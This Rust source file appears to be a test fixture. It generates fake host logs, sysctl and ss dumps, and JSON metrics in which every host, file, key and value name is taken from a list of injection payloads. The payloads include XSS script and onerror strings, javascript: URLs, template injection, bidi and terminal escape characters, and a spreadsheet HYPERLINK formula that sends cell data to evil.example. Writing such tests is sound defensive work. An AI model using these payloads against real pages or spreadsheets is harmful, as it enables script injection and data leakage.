//! An input in which everything that can be named is named by an attacker: hosts, files, keys, values, processes,
//! users, devices, labels, log lines. Each payload would, left as it is, run or break something in one of the forms.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

/// What is smuggled in. The marker is `evil`: the element `<evil`, the attribute `onevil=`, the variable `window.evil`.
pub const PAYLOADS: [&str; 13] = [
    "<script>window.evil=1</script>",
    "</script><script>window.evil=2</script>",
    "</style></title></svg></desc></textarea><evil>",
    "\"onevil=\"x\" autofocus onfocus=\"window.evil=3",
    "'><img/src=x/onerror=window.evil=4><evil>'",
    "]]><evil/><![CDATA[<!--",
    "javascript:window.evil=5//",
    "\u{202e}\u{2066}live\u{200f}\u{202d}",
    "](javascript:window.evil=6)![evil](//evil.example/x.png)",
    "|`|<evil>|``@evil-team#1|",
    "{{constructor.constructor('window.evil=7')()}}${window.evil=8}",
    "&lt;evil&gt;&#60;evil&#62;\u{0}\u{1b}]8;;http://evil\u{7}%3Cevil%3E",
    "=HYPERLINK(\"//evil.example/?\"&A1,\"evil\")",
];

/// One megabyte of one word.
const LONG: usize = 1 << 20;

/// A folder of hosts, each with all of its names taken from one payload.
pub fn write(dir: &Path) {
    for (i, payload) in PAYLOADS.iter().enumerate() {
        // a name in a path or in the host field of a log has no slash and no blank
        let word = payload.replace(['/', ' '], "\u{2215}").replace('\0', "\u{1}");
        host(&dir.join(format!("{i:02}{word}")), payload, &word);
    }
}

fn host(dir: &Path, payload: &str, word: &str) {
    fs::create_dir_all(dir).unwrap();
    let put = |name: String, text: &str| {
        fs::write(dir.join(OsStr::from_bytes(name.as_bytes())), text).unwrap();
    };
    put(format!("netstat{word}.log"), &netstat());
    for (minute, value) in [(0, "16"), (4, "4096")] {
        let time = format!("2026-11-20T11:0{minute}:00Z");
        put(
            format!("sysctl-{minute}{word}.txt"),
            &format!(
                "===== {time} =====\nkernel.hostname = {word}\nnet.core.somaxconn = {value}\n\
                 net.ipv4.tcp_congestion_control = {payload}{minute}\nnet.ipv4.conf.{word}.rp_filter = {minute}\n"
            ),
        );
        put(
            format!("ss-{minute}{word}.txt"),
            &format!(
                "===== {time} =====\nState  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n\
                 LISTEN 17 {value} 10.77.0.1:8080 0.0.0.0:* users:((\"{payload}\",pid=7,fd=3))\n\
                 LISTEN 0 {value} 10.77.0.1%{word}:80 0.0.0.0:*\n"
            ),
        );
    }
    put(format!("kern{word}.log"), &log(payload, word));
    put(format!("link{word}.json"), &link(payload));
    put(format!("query{word}.json"), &query(payload));
    put(format!("graph{word}.csv"), &format!("Time,\"{payload}\"\n1795172400000,1\n1795172460000,9\n"));
    put(format!("unknown{word}"), payload);
}

/// Six minutes of a counter that overflows until the limit is raised.
fn netstat() -> String {
    let mut text = String::new();
    for i in 0..36_u64 {
        let (minute, second) = (i / 6, i % 6 * 10);
        let overflows = if i < 24 { i * 100 } else { 2_400 };
        text += &format!(
            "===== 2026-11-20T11:0{minute}:{second:02}Z =====\nTcp:\n    {} active connection openings\n    \
             {} passive connection openings\nTcpExt:\n    {} times the listen queue of a socket overflowed\n",
            5 + i,
            1_000 + i * 500,
            7 + overflows
        );
    }
    text
}

fn log(payload: &str, word: &str) -> String {
    let mut text = String::new();
    for second in 10..40 {
        text += &format!(
            "Nov 20 11:01:{second} {word} kernel: [358.9] nf_conntrack: table full, dropping packet {payload}\n"
        );
    }
    text += &format!(
        "Nov 20 11:03:58 {word} sudo: {word} : TTY=pts/0 ; PWD=/home/{word} ; USER=root ; \
         COMMAND=/usr/sbin/sysctl -w net.core.somaxconn=4096 {payload}\n"
    );
    let long = payload.repeat(LONG / payload.len());
    text + &format!("Nov 20 11:04:10 {word} app: Too many open files {long}\n")
}

fn link(payload: &str) -> String {
    let stats = |n: u64| {
        serde_json::json!({"rx": {"bytes": n * 1000, "packets": n * 10, "errors": n, "dropped": n, "over_errors": 0,
            "multicast": 0}, "tx": {"bytes": n, "packets": n, "errors": 0, "dropped": n, "carrier_errors": 0,
            "collisions": 0}})
    };
    let devices = serde_json::json!([{"ifindex": 2, "ifname": payload, "flags": ["UP"], "mtu": 1500,
        "operstate": "UP", "stats64": stats(90), payload: payload}]);
    format!("===== 2026-11-20T11:00:00Z =====\n{devices}\n")
}

fn query(payload: &str) -> String {
    serde_json::json!({"status": "success", "data": {"resultType": "matrix", "result": [
        {"metric": {"__name__": payload, "instance": payload, payload: payload},
         "values": [[1_795_172_400, "1"], [1_795_172_460, "5"], [1_795_172_520, payload]]},
        {"metric": {"__name__": "node_netstat_TcpExt_ListenOverflows", "instance": payload},
         "values": [[1_795_172_400, "1"], [1_795_172_460, "5"]]}]}})
    .to_string()
}
